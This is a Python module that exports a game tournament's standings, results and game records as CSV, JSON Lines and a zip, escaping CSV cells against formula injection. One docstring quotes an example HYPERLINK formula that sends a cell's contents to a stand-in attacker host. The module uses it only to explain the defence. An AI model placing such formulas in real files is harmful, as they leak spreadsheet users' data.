"""A tournament's public files: standings and results as CSV, results as JSON Lines, and its
games' record files in one zip (pure: plain data in, file contents out).

Headers and the README are text: they follow the request's language (gettext here, the
active language); the rows are data and stay as they are ("yes"/"no", names, numbers).

Only published rounds appear: a proposed round has no games and is not public. The views read
the tournament, its standings and its games through the services and pass them here.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator, Mapping, Sequence
from typing import Any

from django.utils.text import slugify
from django.utils.translation import gettext, pgettext

from tournaments import placement

YES, NO = "yes", "no"


def filename(summary: Mapping[str, Any], suffix: str) -> str:
    """``spring-open-2026-03-14-standings.csv``: safe in a Content-Disposition header."""
    stem = slugify(summary["name"]) or "tournament"
    return f"{stem}-{summary['date']}-{suffix}"


def number(value: float | int) -> str:
    """4.0 -> "4", 8.63 -> "8.63": the figures as the standings show them (2 decimals)."""
    text = f"{value:.2f}".rstrip("0").rstrip(".")
    return "0" if text == "-0" else text


def published_tables(
    summary: Mapping[str, Any],
) -> Iterator[tuple[Mapping[str, Any], Mapping[str, Any]]]:
    """(round, table) of every table with a game, in round and table order."""
    for rnd in summary["rounds"]:
        if rnd["status"] == "proposed":
            continue
        for table in rnd["tables"]:
            if table["game"] is not None:
                yield rnd, table


BOM = "\ufeff"
"""Starts every CSV file: without it Excel reads UTF-8 as the system's legacy code page
("ChloÃ©"); with it Excel and LibreOffice both read UTF-8, and CSV readers that know BOMs
(Python's utf-8-sig, pandas) skip it."""


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet reads a cell as a formula by (OWASP, "CSV Injection"): a name such as
``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would run when the file is opened."""

_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
"""A figure as the exports write it (``-3``, ``8.63``): a number to a spreadsheet, never a
formula, so it stays as it is (negative scores included)."""


def safe_cell(value: Any) -> Any:
    """A CSV cell a spreadsheet shows as text, never runs: a text beginning with one of
    :data:`FORMULA_STARTS` gets a leading apostrophe (``'=SUM(1+1)``, ``'-2+3``), as OWASP
    advises; numbers, and texts that are plain figures, are written as they are. Only the CSV
    cell changes: the name stays as registered everywhere else (JSON, JSON Lines, records)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def _csv(rows: Sequence[Sequence[Any]]) -> str:
    """Every CSV file the project writes: the byte-order mark, then the rows, every cell made
    safe for a spreadsheet (:func:`safe_cell`)."""
    out = io.StringIO(BOM)
    out.seek(len(BOM))
    writer = csv.writer(out, lineterminator="\r\n")  # RFC 4180
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    return out.getvalue()


# ----------------------------------------------------------------------------- standings


def standings_csv(standings: Mapping[str, Any]) -> str:
    """A header row of the standings' column titles (rank, player, points, each tie-break,
    then the other figures), and a Dropped column; one row per player, best first."""
    columns = standings["columns"]
    # Titles are stored in English (the standings' JSON): each is a msgid (tournaments.standings).
    rows: list[list[str]] = [[gettext(c["title"]) for c in columns] + [gettext("Dropped")]]
    for row in standings["rows"]:
        cells = []
        for column in columns:
            key = column["key"]
            value = row["tiebreaks"][key] if key in row["tiebreaks"] else row[key]
            cells.append(value if isinstance(value, str) else number(value))
        rows.append([*cells, YES if row["dropped"] else NO])
    return _csv(rows)


# ----------------------------------------------------------------------------- results


def results_csv(summary: Mapping[str, Any], games: Mapping[str, Mapping[str, Any] | None]) -> str:
    """One row per player (a team in a team game) per published table: where they sat, their
    place and the game's points (victory points; Chefs: final position; Crazy Kitchen: points
    scored) once the table has a result, the game's round scores (from the game's summary,
    ``games[game id]``), and whether the result is confirmed."""
    scores: dict[str, dict[str, list[int]]] = {}  # game id -> player name -> round scores
    for _, table in published_tables(summary):
        game = games.get(table["game"])
        if table["result"] is not None and game is not None:
            by_player: dict[str, list[int]] = {}
            for game_round in game.get("rounds", ()):
                # Trick-n-Chef's deals score every player; the other games' rounds say other
                # things (who cooked, who was eliminated): their records are in the zip
                for player, score in (game_round.get("scores") or {}).items():
                    by_player.setdefault(player, []).append(score)
            scores[table["game"]] = by_player
    width = max((len(s) for g in scores.values() for s in g.values()), default=0)
    rule = placement.rule_of(summary.get("game_type") or "")
    header = [
        pgettext("tournament round", "Round"),
        gettext("Table"),
        gettext("Seat"),
        gettext("Player") if rule is None else gettext(rule.entrant),
        gettext("Place"),
        gettext("Victory points") if rule is None else gettext(rule.game_points.title),
    ]
    header += [
        pgettext("a game's deal", "Deal %(number)s") % {"number": n} for n in range(1, width + 1)
    ]
    rows: list[list[Any]] = [[*header, gettext("Confirmed")]]
    for rnd, table in published_tables(summary):
        result = {r["player"]: r for r in table["result"] or ()}
        for seat, who in enumerate(table["seats"], start=1):
            placed = result.get(who["player"])
            rounds = scores.get(table["game"], {}).get(who["name"], [])
            rows.append(
                [
                    rnd["round"],
                    table["table"],
                    seat,
                    who["name"],
                    "" if placed is None else placed["place"],
                    "" if placed is None else placed["victory_points"],
                    *(rounds + [""] * (width - len(rounds))),
                    YES if table["confirmed"] else NO,
                ]
            )
    return _csv(rows)


def results_jsonl(summary: Mapping[str, Any]) -> str:
    """One JSON object per table result, in round and table order."""
    lines = []
    for rnd, table in published_tables(summary):
        if table["result"] is None:
            continue
        seat = {s["player"]: n for n, s in enumerate(table["seats"], start=1)}
        entry = {
            "round": rnd["round"],
            "table": table["table"],
            "game": table["game"],
            "confirmed": table["confirmed"],
            "results": [
                {
                    "player": r["player"],
                    "name": r["name"],
                    "seat": seat.get(r["player"]),
                    "place": r["place"],
                    "victory_points": r["victory_points"],
                    "last_round": r["last_round"],
                }
                for r in table["result"]
            ],
        }
        lines.append(json.dumps(entry, ensure_ascii=False) + "\n")
    return "".join(lines)


# ----------------------------------------------------------------------------- games


def record_name(round_number: int, table_number: int) -> str:
    return f"round-{round_number}-table-{table_number}.jsonl"


def games_zip(summary: Mapping[str, Any], records: Mapping[str, str | None]) -> bytes:
    """Every published table's record file (``records[game id]``; None for a game entered
    as results only, which has none), and a README.txt listing the files and the tables
    entered as results only."""
    listed: list[str] = []
    results_only: list[str] = []
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for rnd, table in published_tables(summary):
            players = ", ".join(s["name"] for s in table["seats"])
            where = gettext("round %(round)s, table %(table)s") % {
                "round": rnd["round"],
                "table": table["table"],
            }
            record = records.get(table["game"])
            if record is None:
                results_only.append(f"  {where}: {players}")
                continue
            name = record_name(rnd["round"], table["table"])
            archive.writestr(name, record)
            listed.append(f"  {name}  ({where}: {players})")
        archive.writestr("README.txt", _readme(summary, listed, results_only))
    return out.getvalue()


def _readme(summary: Mapping[str, Any], listed: list[str], results_only: list[str]) -> str:
    lines = [
        gettext("%(tournament)s (%(date)s): the games' record files")
        % {"tournament": summary["name"], "date": summary["date"]},
        "",
        gettext(
            "Each round-R-table-T.jsonl is the record of one table's game (JSON Lines, record "
            "format v1; corrections applied)."
        ),
        "",
        gettext("Records:") if listed else gettext("No table has a play-by-play record."),
        *listed,
    ]
    if results_only:
        lines += [
            "",
            gettext("Entered as results only (no play-by-play record, so no file):"),
            *results_only,
        ]
    return "\n".join(lines) + "\n"
